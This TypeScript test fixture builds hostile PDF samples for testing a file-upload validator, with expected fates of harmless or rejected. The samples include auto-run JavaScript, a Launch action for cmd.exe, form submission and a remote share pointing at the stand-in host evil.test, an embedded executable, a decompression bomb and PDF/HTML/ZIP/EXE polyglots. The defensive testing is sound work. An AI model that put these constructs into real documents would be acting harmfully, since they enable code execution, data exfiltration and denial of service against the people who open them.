import { deflateRawSync, deflateSync } from 'node:zlib'
import { zipOf } from './foreign-files.ts'
import { type HostileFile, noise, sizesMax } from './hostile-file.ts'

/** PDFs are stored as opaque bytes and never opened here, so their content must do nothing. */
export function hostilePdfs(): HostileFile[] {
	const action = (what: string, open: string): HostileFile => harmless(what, pdfOf(`/OpenAction ${open}`))
	const bomb = deflateSync(Buffer.alloc(60_000_000))
	return [
		action('a PDF with a script', '<< /S /JavaScript /JS (app.alert(1)) >>'),
		action('a PDF that starts a program', '<< /S /Launch /F (cmd.exe) >>'),
		action('a PDF that sends a form', '<< /S /SubmitForm /F (https://evil.test) >>'),
		action('a PDF that opens another file', '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share) >>'),
		harmless(
			'a PDF with a password',
			pdfOf('', '/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -44 >>'),
		),
		harmless('a PDF with a file inside', pdfOf('/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>')),
		harmless('a PDF with a form in XML', pdfOf('/AcroForm << /XFA (<script>) >>')),
		harmless('a PDF with a bomb in a stream', pdfOf('', '', bomb)),
		harmless(
			'a PDF whose objects refer to each other',
			Buffer.from('%PDF-1.7\n1 0 obj 2 0 R endobj\n2 0 obj 1 0 R endobj\n%%EOF'),
		),
		harmless(
			'a PDF nested ten thousand deep',
			Buffer.from(`%PDF-1.7\n1 0 obj ${'['.repeat(10_000)}${']'.repeat(10_000)} endobj\n%%EOF`),
		),
		harmless(
			'a PDF that is an archive as well',
			Buffer.concat([pdfOf(), zipOf('a.html', deflateRawSync('<script>'))]),
		),
		harmless(
			'a PDF that is a page as well',
			Buffer.concat([pdfOf(), Buffer.from('<html><script>alert(1)</script></html>')]),
		),
		harmless(
			'a PDF that is a program as well',
			Buffer.concat([pdfOf(), Buffer.from('4d5a9000', 'hex'), noise(1_000)]),
		),
		harmless('a PDF with nothing in it', Buffer.from('%PDF-1.7')),
		harmless('a PDF of zeros', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000)])),
		rejected('a PDF after other bytes', Buffer.concat([noise(100), pdfOf()])),
		rejected('a PDF after a byte order mark', Buffer.concat([Buffer.from('\ufeff'), pdfOf()])),
		rejected('a PDF after a page', Buffer.concat([Buffer.from('<html>'), pdfOf()])),
		rejected('half the first bytes of a PDF', Buffer.from('%PD')),
		{
			...rejected('a PDF one byte too large', Buffer.alloc(0)),
			bytes: () => padded(sizesMax.supporting + 1),
		},
		{ ...harmless('a PDF of exactly the limit', Buffer.alloc(0)), bytes: () => padded(sizesMax.supporting) },
		{
			...rejected('a PDF one byte too large for a license', Buffer.alloc(0)),
			bytes: () => padded(sizesMax.license + 1),
			sizeBytesMax: sizesMax.license,
		},
	]
}

const harmless = (what: string, bytes: Buffer): HostileFile => ({
	what,
	name: 'pay-stub.pdf',
	bytes: () => bytes,
	fate: 'harmless',
})
const rejected = (what: string, bytes: Buffer): HostileFile => ({
	...harmless(what, bytes),
	fate: 'rejected',
})

function padded(size: number): Buffer {
	const pdf = pdfOf()
	return Buffer.concat([pdf, Buffer.alloc(size - pdf.length)])
}

/** A PDF of one empty page. */
function pdfOf(catalog = '', trailer = '', stream = Buffer.from('')): Buffer {
	const filter = stream.length ? '/Filter /FlateDecode' : ''
	return Buffer.concat([
		Buffer.from(
			`%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n` +
				`3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj\n4 0 obj << /Length ${stream.length} ${filter} >> stream\n`,
		),
		stream,
		Buffer.from(`\nendstream endobj\ntrailer << /Root 1 0 R ${trailer} >>\n%%EOF\n`),
	])
}
